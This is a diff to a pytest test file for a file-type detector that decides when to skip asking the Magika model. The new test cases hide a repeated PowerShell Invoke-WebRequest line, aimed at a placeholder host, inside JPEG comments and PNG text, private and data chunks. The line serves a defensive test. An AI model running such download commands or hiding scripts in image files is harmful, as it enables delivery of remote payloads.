@@ -5,6 +5,8 @@ signature to its end marker and nothing after."""
 
 from __future__ import annotations
 
+import struct
+import zlib
 from typing import Any
 
 import pytest
@@ -38,13 +40,23 @@ DECIDED = {
     "an Excel workbook": ole_file({"Workbook": b"\0" * 600}),
     "another compound file": ole_file({"Contents": b"\0" * 600}),
     "a WAV": samples.wav(20_000),
-    "a JPEG photo": samples.jpeg(samples.photo(64, 48, seed=1)),
-    "a JPEG photo without EXIF": samples.jpeg(samples.photo(64, 48, seed=2), exif=False),
+    "a JPEG photo": samples.jpeg(samples.photo(64, 48, seed=2), exif=False),
+    "a larger JPEG photo": samples.jpeg(samples.photo(640, 480, seed=3), exif=False),
     "a PNG screenshot": samples.png(samples.screenshot(120, 80)),
 }
 _JPEG = DECIDED["a JPEG photo"]
 _PNG = DECIDED["a PNG screenshot"]
 _IEND = _PNG[-12:]
+_SCRIPT = b"powershell -NoProfile -Command Invoke-WebRequest https://example.invalid/x\r\n" * 8
+
+
+def _png_chunk(kind: bytes, payload: bytes) -> bytes:
+    body = kind + payload
+    return struct.pack(">I", len(payload)) + body + struct.pack(">I", zlib.crc32(body))
+
+
+def _jpeg_comment(text: bytes) -> bytes:
+    return b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text
 
 
 @pytest.mark.parametrize("name", DECIDED)
@@ -73,6 +85,13 @@ def test_anything_else_still_asks_the_model(magika: FileTypeEngine) -> None:
         _PNG[:8] + _IEND,  # no header, no picture data
         b"GIF89a" + _JPEG,  # left to Magika
         b"%PDF-1.7\n" + _PNG,  # a signature somewhere other than byte 0
+        # text where the model reads (its first and last KiB): a comment, EXIF, a text chunk
+        _JPEG[:2] + _jpeg_comment(_SCRIPT) + _JPEG[2:],
+        _JPEG[:-2] + _jpeg_comment(_SCRIPT) + _JPEG[-2:],
+        samples.jpeg(samples.photo(64, 48, seed=1)),  # EXIF (camera, date) at the start
+        _PNG[:-12] + _png_chunk(b"tEXt", b"Comment\0" + _SCRIPT) + _IEND,
+        _PNG[:-12] + _png_chunk(b"prVt", _SCRIPT) + _IEND,
+        _PNG[:-12] + _png_chunk(b"IDAT", zlib.compress(_SCRIPT, 0)) + _IEND,  # stored: text
     ):
         with pytest.raises(AssertionError, match="Magika was asked"):
             skipping.detect(data)
